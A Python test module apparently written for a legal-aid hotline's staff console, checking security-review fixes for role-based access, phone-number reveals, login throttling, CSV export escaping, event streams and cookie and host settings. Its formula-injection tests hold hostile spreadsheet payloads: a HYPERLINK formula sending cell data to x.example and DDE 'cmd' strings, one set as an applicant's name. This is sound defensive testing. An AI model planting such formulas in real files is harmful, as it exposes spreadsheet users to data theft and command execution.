"""Regression tests for the console findings of the security review of 2026-12-01 (H2, M3, M4, M8,
L2, L3, L4): each failed before its fix."""

from __future__ import annotations

import asyncio
import csv
import io
import re
from datetime import datetime, timedelta, timezone

import pytest

from bot.console import auth, policy, users
from bot.handoff import store, tickets
from bot.legal_aid import store as aid_store
from tests.console.conftest import PASSWORD, open_ticket, run

ROLES_USERS = {"agent": "agent1", "mediator": "med1", "supervisor": "boss", "legal_aid_officer": "officer"}


def submit_application(eng, sender: str = "c1") -> str:
    return aid_store.submit(eng, idempotency_key=f"k-{sender}", sender_id=sender, name="张三", phone="13812345678",
                            id_number="11010519491231002X", region="河南省周口市", matter="labor_remuneration",
                            details={"description": "包工头欠我三万五", "safe_to_call": "否",
                                     "assessment": {"decision": "needs_review"}})


def open_callback(eng, sender: str = "c9") -> tickets.Ticket:
    return store.open_callback(eng, sender_id=sender, channel="rest", category="debt",
                               summary=tickets.build_summary("debt", {}, [], []), phone="13812345678",
                               window="工作日上午", now=datetime.now(timezone.utc))


# H2: legal-aid applications by role ----------------------------------------------------------------

@pytest.mark.parametrize(("role", "listing", "view", "decide"), [
    ("agent", 403, 403, 403), ("mediator", 403, 403, 403),
    ("supervisor", 200, 200, 403), ("legal_aid_officer", 200, 200, 303)])
def test_applications_route_by_role(kb, eng, role: str, listing: int, view: int, decide: int) -> None:
    ref = submit_application(eng)

    async def scenario(c):
        await c.login(ROLES_USERS[role])
        resp = await c.get("/console/applications")
        assert resp.status == listing
        assert (ref in await resp.text()) is (listing == 200)
        resp = await c.get(f"/console/applications/{ref}")
        assert resp.status == view
        assert ("包工头欠我三万五" in await resp.text()) is (view == 200)
        assert (await c.post(f"/console/applications/{ref}/status", {"status": "under_review"})).status == decide

    run(kb, eng, scenario)
    assert aid_store.get(eng, ref, "test").status == ("under_review" if decide == 303 else "submitted")


def test_a_supervisor_reads_an_application_but_gets_no_decision_form(kb, eng) -> None:
    ref = submit_application(eng)

    async def scenario(c):
        await c.login("boss")
        page = await (await c.get(f"/console/applications/{ref}")).text()
        assert 'id="decision-note"' in page and 'id="set-status"' not in page
        nav = await (await c.get("/console/queue")).text()
        assert 'href="/console/applications"' in nav and 'href="/console/audit"' in nav

    run(kb, eng, scenario)


def test_mediators_see_nothing_of_applications_not_even_on_a_ticket(kb, eng, notified) -> None:
    ref = submit_application(eng, "c3")
    t = open_ticket(eng, "c3", reason=tickets.REASON_MEDIATION, category="neighbor_dispute")

    async def scenario(c):
        await c.login("med1")
        page = await (await c.get(f"/console/tickets/{t.reference}")).text()
        assert ref not in page and "application-" not in page
        assert 'href="/console/applications"' not in page and 'href="/console/callbacks"' not in page

    run(kb, eng, scenario)


def test_a_legal_aid_officer_lands_on_the_applications_and_sees_no_tickets(kb, eng, notified) -> None:
    t = open_ticket(eng, "c1")

    async def scenario(c):
        page = await (await c.client.get("/console/login")).text()
        token = re.search(r'name="csrf" value="([^"]+)"', page).group(1)
        resp = await c.client.post("/console/login", data={"csrf": token, "username": "officer",
                                                            "password": PASSWORD}, allow_redirects=False)
        assert resp.headers["Location"] == "/console/applications"
        assert (await c.get("/console/")).headers["Location"] == "/console/applications"
        assert t.reference not in await (await c.get("/console/queue/rows")).text()
        assert (await c.get(f"/console/tickets/{t.reference}")).status == 404

    run(kb, eng, scenario)


def test_the_legal_aid_officer_role_fits_in_postgres_and_sqlite(db) -> None:
    user = users.add_user(db, "fa-officer", PASSWORD, "legal_aid_officer")
    assert users.list_users(db)[0].role == user.role == "legal_aid_officer"


# M3: callback numbers ------------------------------------------------------------------------------

async def reveal(c, ref: str):
    return await c.client.post(f"/console/tickets/{ref}/callback-phone", headers={"X-CSRF-Token": c.csrf})


@pytest.mark.parametrize(("role", "status"), [
    ("agent", 200), ("supervisor", 200), ("mediator", 404), ("legal_aid_officer", 404)])
def test_callback_number_reveal_by_role(kb, eng, role: str, status: int) -> None:
    cb = open_callback(eng)

    async def scenario(c):
        await c.login(ROLES_USERS[role])
        resp = await reveal(c, cb.reference)
        assert resp.status == status
        assert ("13812345678" in await resp.text()) is (status == 200)
        callbacks = await c.get("/console/callbacks")
        assert callbacks.status == (200 if status == 200 else 403)

    run(kb, eng, scenario)


def test_no_reveal_once_the_callback_is_closed(kb, eng, notified) -> None:
    cb = open_callback(eng)
    store.close(eng, cb.reference, "agent1", "callback_done", datetime.now(timezone.utc))

    async def scenario(c):
        await c.login("agent1")
        resp = await reveal(c, cb.reference)
        assert resp.status == 403 and "13812345678" not in await resp.text()
        page = await (await c.get("/console/callbacks?done=1")).text()
        assert cb.reference in page and "显示完整号码" not in page

    run(kb, eng, scenario)
    with pytest.raises(tickets.TicketClosed):  # the store refuses too
        store.reveal_callback_phone(eng, cb.reference, "agent:agent1")


def test_every_reveal_is_audited_and_supervisors_read_the_audit(kb, eng, notified) -> None:
    cb = open_callback(eng)
    ref = submit_application(eng)

    async def scenario(c):
        await c.login("agent1")
        assert (await reveal(c, cb.reference)).status == 200
        assert (await c.get("/console/audit")).status == 403
        await c.logout()
        await c.login("officer")
        await c.post(f"/console/applications/{ref}/status", {"status": "under_review"})
        assert (await c.get("/console/audit")).status == 403
        await c.logout()
        await c.login("boss")
        page = await (await c.get("/console/audit")).text()
        assert "agent:agent1" in page and cb.reference in page and "查看回电号码" in page
        # The legal-aid audit log on the same page: the officer's status change.
        assert "console:officer" in page and ref in page and "变更状态：审查中" in page

    run(kb, eng, scenario)
    assert any(m.author == "system" and "agent:agent1 查看回电号码" in m.text
               for m in store.transcript(eng, cb.reference))


def test_reveals_are_rate_limited_per_user(kb, eng, monkeypatch) -> None:
    monkeypatch.setattr(policy, "MAX_PHONE_REVEALS_PER_HOUR", 2)
    cbs = [open_callback(eng, f"c{i}") for i in range(3)]

    async def scenario(c):
        await c.login("agent1")
        assert [(await reveal(c, cb.reference)).status for cb in cbs] == [200, 200, 429]
        await c.logout()
        await c.login("agent2")  # another agent is not affected
        assert (await reveal(c, cbs[2].reference)).status == 200

    run(kb, eng, scenario)


# M4: login throttle --------------------------------------------------------------------------------

def test_strangers_cannot_lock_an_agent_out(kb, eng, monkeypatch) -> None:
    monkeypatch.setenv("HOTLINE_TRUSTED_PROXIES", "127.0.0.1")  # the test client is the TLS proxy
    attacker, agent = {"X-Forwarded-For": "203.0.113.9"}, {"X-Forwarded-For": "198.51.100.7"}

    async def scenario(c):
        for _ in range(auth.MAX_FAILURES + 1):
            assert await c.login("agent1", "wrong password", headers=attacker) in (401, 429)
        assert await c.login("agent1", headers=attacker) == 429  # the attacker's address waits
        assert await c.login("agent1", headers=agent) == 302  # the right password from the agent's address

    run(kb, eng, scenario)


def test_forwarded_for_is_ignored_from_an_untrusted_peer(kb, eng) -> None:
    async def scenario(c):
        for i in range(auth.MAX_FAILURES):
            assert await c.login("agent1", "wrong password", headers={"X-Forwarded-For": f"203.0.113.{i}"}) == 401
        resp_status = await c.login("agent1", headers={"X-Forwarded-For": "198.51.100.7"})
        assert resp_status == 429  # same peer: a forged header buys no fresh address

    run(kb, eng, scenario)


def test_the_throttle_answer_says_how_long_to_wait(kb, eng) -> None:
    async def scenario(c):
        for _ in range(auth.MAX_FAILURES):
            await c.login("agent1", "wrong password")
        page = await (await c.client.get("/console/login")).text()
        token = re.search(r'name="csrf" value="([^"]+)"', page).group(1)
        resp = await c.client.post("/console/login", data={"csrf": token, "username": "agent1",
                                                            "password": PASSWORD}, allow_redirects=False)
        assert resp.status == 429 and 1 <= int(resp.headers["Retry-After"]) <= 30
        assert "秒后再试" in await resp.text()

    run(kb, eng, scenario)


def test_password_spraying_from_one_address_is_stopped(db) -> None:
    t0 = datetime(2026, 12, 1, 9, 0, tzinfo=timezone.utc)
    users.add_user(db, "zhang", PASSWORD, "agent")
    for i in range(auth.ADDRESS_MAX_FAILURES):  # one guess each at many accounts: no pair is throttled
        with pytest.raises(users.LoginRefused):
            users.login(db, f"user{i}", "Password123!", "203.0.113.9", now=t0 + timedelta(seconds=i))
    with pytest.raises(users.LoginLocked):
        users.login(db, "zhang", PASSWORD, "203.0.113.9", now=t0 + timedelta(minutes=1))
    assert users.login(db, "zhang", PASSWORD, "198.51.100.7", now=t0 + timedelta(minutes=1))
    assert users.login(db, "zhang", PASSWORD, "203.0.113.9", now=t0 + auth.ADDRESS_WINDOW + timedelta(seconds=1))


def test_old_login_attempts_are_purged(db) -> None:
    from sqlalchemy import func, select

    t0 = datetime(2026, 12, 1, 9, 0, tzinfo=timezone.utc)
    users.add_user(db, "zhang", PASSWORD, "agent")
    for i in range(3):
        with pytest.raises(users.LoginRefused):
            users.login(db, "zhang", "wrong", "203.0.113.9", now=t0 + timedelta(seconds=i))
    users.login(db, "zhang", PASSWORD, "198.51.100.7", now=t0 + auth.ATTEMPTS_KEPT + timedelta(minutes=1))
    with db.connect() as conn:
        assert conn.execute(select(func.count()).select_from(users.login_attempts)).scalar() == 1


# M8: CSV formula injection -------------------------------------------------------------------------

@pytest.mark.parametrize(("cell", "safe"), [
    ('=HYPERLINK("http://x.example/?"&A1,"点击查看")', '\'=HYPERLINK("http://x.example/?"&A1,"点击查看")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("老板拖欠工资=违法吗", "老板拖欠工资=违法吗"), ("42", "42"), ("", "")])
def test_spreadsheet_cells_never_start_a_formula(cell: str, safe: str) -> None:
    from bot.spreadsheet import safe_cell

    assert safe_cell(cell) == safe


def test_the_statistics_csv_carries_citizen_formulas_as_text(kb, eng) -> None:
    from bot.store import consultation_log

    formula = '=HYPERLINK("http://x.example/?"&A1,"点击查看")'
    for i in range(3):
        consultation_log.record(eng, f"s{i}", "none", formula, answered=False)

    async def scenario(c):
        await c.login("boss")
        return (await (await c.get("/console/stats.csv?days=1")).read()).decode("utf-8-sig")

    rows = list(csv.reader(io.StringIO(run(kb, eng, scenario))))
    unanswered = [r for r in rows if r[0] == "unanswered"]
    assert unanswered and all(not r[2].startswith(("=", "+", "-", "@")) for r in unanswered)
    assert any(r[2] == "'" + formula for r in unanswered)


def test_the_applications_export_carries_citizen_formulas_as_text(tmp_path, monkeypatch, capsys) -> None:
    from bot import cli
    from bot.store.db import engine

    from tests.console.conftest import FERNET_KEY

    monkeypatch.setenv("HOTLINE_FERNET_KEY", FERNET_KEY)
    monkeypatch.setenv("HOTLINE_DB_URL", f"sqlite:///{tmp_path / 'export.db'}")
    aid_store.submit(engine(), idempotency_key="k", sender_id="c1", name="=cmd|' /C calc'!A0", phone="13812345678",
                     id_number="11010519491231002X", region="@SUM(1)", matter=None, details={})
    assert cli.main(["applications", "export"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows[1][3] == "'=cmd|' /C calc'!A0" and rows[1][6] == "'@SUM(1)"


# L2: tickets by role, no sender ids ----------------------------------------------------------------

def test_other_roles_tickets_are_not_found(kb, eng, notified) -> None:
    hotline = open_ticket(eng, "c1", text="我的工资被拖欠了半年")
    mediation = open_ticket(eng, "c3", reason=tickets.REASON_MEDIATION, category="neighbor_dispute",
                            text="邻居家漏水到我家")
    hidden = {"med1": hotline, "agent1": mediation}

    async def scenario(c):
        for user, ticket in hidden.items():
            await c.login(user)
            ref = ticket.reference
            for path in (f"/console/tickets/{ref}", f"/console/tickets/{ref}/transcript",
                         f"/console/tickets/{ref}/suggestions", f"/console/tickets/{ref}/events"):
                resp = await c.get(path)
                body = await resp.text()
                assert resp.status == 404, (user, path, resp.status)
                assert "拖欠" not in body and "漏水" not in body
            resp = await c.post(f"/console/tickets/{ref}/claim")
            assert resp.status == 404 and "拖欠" not in await resp.text() and "漏水" not in await resp.text()
            assert store.get(eng, ref).status == "open"
            await c.logout()

    run(kb, eng, scenario)


def test_the_queue_json_hands_out_no_sender_ids(kb, eng, notified) -> None:
    open_ticket(eng, "secret-sender-1")

    async def scenario(c):
        await c.login("agent1")
        resp = await c.get("/console/api/queue")
        data = await resp.json()
        assert data and all("sender_id" not in t for t in data)
        assert "secret-sender-1" not in await resp.text()
        page = await (await c.get(f"/console/tickets/{data[0]['reference']}")).text()
        assert "secret-sender-1" not in page

    run(kb, eng, scenario)


# L3: event streams end with the session ------------------------------------------------------------

async def read_until_end(resp, seconds: float) -> bytes:
    return await asyncio.wait_for(resp.content.read(), seconds)  # read() returns at end of stream


def test_a_stream_ends_at_logout(kb, eng) -> None:
    async def scenario(c):
        await c.login("agent1")
        resp = await c.client.get("/console/queue/events")
        await asyncio.wait_for(resp.content.readuntil(b"event: queue\ndata: changed\n\n"), 5)
        await c.logout()
        rest = await read_until_end(resp, 5)
        assert b"event: logout" in rest or rest == b""
        assert resp.content.at_eof()

    run(kb, eng, scenario)


def test_a_stream_ends_when_the_user_is_disabled(kb, eng, monkeypatch) -> None:
    from bot.console import session_cache

    async def scenario(c):
        await c.login("agent1")
        resp = await c.client.get("/console/queue/events")
        await asyncio.wait_for(resp.content.readuntil(b"event: queue\ndata: changed\n\n"), 5)
        users.set_disabled(eng, "agent1")  # from another process, like `hotline users disable`
        monkeypatch.setattr(session_cache, "TTL_SECONDS", 0.0)
        assert b"event: logout" in await read_until_end(resp, 5)

    run(kb, eng, scenario)


def test_streams_per_session_are_capped(kb, eng) -> None:
    from bot.console import sse

    async def scenario(c):
        await c.login("agent1")
        opened = [await c.client.get("/console/queue/events") for _ in range(sse.MAX_STREAMS_PER_SESSION)]
        assert all(r.status == 200 for r in opened)
        assert (await c.client.get("/console/queue/events")).status == 429
        for r in opened:
            r.close()

    run(kb, eng, scenario)


# L4: Secure cookies and HSTS behind a TLS proxy, the console's own host ----------------------------

def session_cookie(resp) -> str:
    return next(h for h in resp.headers.getall("Set-Cookie") if h.startswith("hotline_console="))


async def login_response(c, headers: dict | None = None):
    """Logs agent1 in, sending the login cookie by hand: the test client keeps Secure cookies to HTTPS."""
    page = await c.client.get("/console/login", headers=headers)
    token = re.search(r'name="csrf" value="([^"]+)"', await page.text()).group(1)
    return await c.client.post("/console/login", data={"csrf": token, "username": "agent1", "password": PASSWORD},
                               allow_redirects=False,
                               headers={**(headers or {}), "Cookie": f"hotline_login_csrf={token}"})


def cookie_value(resp) -> str:
    return session_cookie(resp).split(";")[0].split("=", 1)[1]


def test_behind_a_trusted_tls_proxy_cookies_are_secure_and_hsts_is_sent(kb, eng, monkeypatch) -> None:
    monkeypatch.setenv("HOTLINE_TRUSTED_PROXIES", "127.0.0.1, ::1")
    https = {"X-Forwarded-Proto": "https", "X-Forwarded-For": "198.51.100.7"}

    async def scenario(c):
        resp = await login_response(c, https)
        assert "Secure" in session_cookie(resp)
        https["Cookie"] = f"hotline_console={cookie_value(resp)}"
        page = await c.get("/console/queue", headers=https)
        assert page.status == 200 and page.headers["Strict-Transport-Security"].startswith("max-age=31536000")
        plain = await c.get("/console/queue", headers={"X-Forwarded-Proto": "http", "Cookie": https["Cookie"]})
        assert "Strict-Transport-Security" not in plain.headers

    run(kb, eng, scenario)


def test_forwarded_proto_from_an_untrusted_peer_is_ignored(kb, eng) -> None:
    async def scenario(c):
        resp = await login_response(c, {"X-Forwarded-Proto": "https"})
        assert "Secure" not in session_cookie(resp)  # plain-HTTP development keeps working
        assert "Strict-Transport-Security" not in (await c.get("/console/queue")).headers

    run(kb, eng, scenario)


def test_secure_cookies_can_be_forced(kb, eng, monkeypatch) -> None:
    monkeypatch.setenv("HOTLINE_SECURE_COOKIES", "always")

    async def scenario(c):
        resp = await login_response(c)
        assert "Secure" in session_cookie(resp)
        assert "Secure" in next(h for h in (await c.client.get("/console/login")).headers.getall("Set-Cookie"))

    run(kb, eng, scenario)


def test_the_console_answers_only_on_its_own_host(kb, eng, monkeypatch) -> None:
    monkeypatch.setenv("HOTLINE_CONSOLE_HOST", "console.12348.internal")

    async def scenario(c):
        for path in ("/console/login", "/console/queue", "/console/static/console.js", "/console/api/me"):
            assert (await c.client.get(path, allow_redirects=False)).status == 404, path
        assert (await c.client.post("/api/assist/suggest", json={"text": "欠薪"})).status == 404
        chat = await c.client.get("/chat/")
        assert chat.status == 200  # the public chat stays on the public host
        own = {"Host": "console.12348.internal"}
        assert (await c.client.get("/console/login", headers=own)).status == 200
        assert await c.login("agent1", headers=own) == 302

    run(kb, eng, scenario)


def test_transport_settings_parse_and_pick_the_client_address() -> None:
    from bot.console import transport

    s = transport.from_env({"HOTLINE_TRUSTED_PROXIES": "10.0.0.0/8, 127.0.0.1, nonsense",
                            "HOTLINE_SECURE_COOKIES": "yes", "HOTLINE_CONSOLE_HOST": "Console.Example:8443"})
    assert s.secure_cookies == "always" and len(s.problems) == 2  # a typo never turns Secure off
    assert s.console_host == "console.example" and transport.host_allowed(s, "console.example:8443")
    assert not transport.host_allowed(s, "chat.example")
    xff = {"X-Forwarded-For": "6.6.6.6, 198.51.100.7, 10.1.2.3"}
    assert transport.client_address(s, "127.0.0.1", xff) == "198.51.100.7"  # the right-most untrusted hop
    assert transport.client_address(s, "203.0.113.9", xff) == "203.0.113.9"  # untrusted peer: header ignored
    assert transport.client_address(s, "127.0.0.1", {}) == "127.0.0.1"
    assert transport.is_https(s, "10.9.9.9", False, {"X-Forwarded-Proto": "https"})
    assert not transport.is_https(s, "203.0.113.9", False, {"X-Forwarded-Proto": "https"})
    assert transport.is_https(transport.from_env({}), None, True, {})
